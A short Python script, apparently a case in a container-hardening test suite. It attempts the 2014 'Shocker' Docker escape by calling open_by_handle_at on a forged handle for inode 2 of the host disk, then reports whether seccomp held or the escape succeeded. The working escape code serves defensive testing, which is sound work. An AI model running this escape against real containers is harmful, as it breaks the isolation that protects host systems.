# attack: a file by its inode number instead of a path
# family: 8
# runs: call exec root
# stopped-by: seccomp
# needs: x86_64
#
# Shocker, the first Docker escape (2014): inode 2 is the root of the disk, whatever is mounted where.
# An address that cannot be read tells whether the filter or the kernel refused.
import ctypes
import errno
import os
import struct

_OPEN_BY_HANDLE_AT = 304

_libc = ctypes.CDLL(None, use_errno=True)
_libc.syscall.restype = ctypes.c_long


def _syscall(number, *arguments):
    """What the kernel answered: a result, or minus an error number."""
    wide = [ctypes.c_long(a) if isinstance(a, int) else a for a in arguments]
    result = _libc.syscall(ctypes.c_long(number), *wide)
    return result if result >= 0 else -ctypes.get_errno()
_REFUSED = (-errno.EPERM, -errno.ENOSYS)  # what a filter answers; anything else is the kernel's own voice


def attack():
    place = os.open("/", os.O_RDONLY | os.O_DIRECTORY)
    root_of_the_disk = ctypes.create_string_buffer(struct.pack("<IiII", 8, 1, 2, 0))
    result = _syscall(_OPEN_BY_HANDLE_AT, place, root_of_the_disk, os.O_RDONLY)
    if result >= 0:
        return "ESCAPED: opened inode 2 of the disk"
    probe = _syscall(_OPEN_BY_HANDLE_AT, -1, ctypes.c_void_p(8), os.O_RDONLY)
    os.close(place)
    if result in _REFUSED and probe in _REFUSED:
        return "HELD: open_by_handle_at: " + os.strerror(-probe)
    return f"ESCAPED: open_by_handle_at got through: {os.strerror(-result)}, {os.strerror(-probe)}"


if __name__ == "__main__":
    verdict = attack()
    print(verdict)
    raise SystemExit({"HELD": 0, "ESCAPED": 42}.get(verdict.split(":")[0], 43))
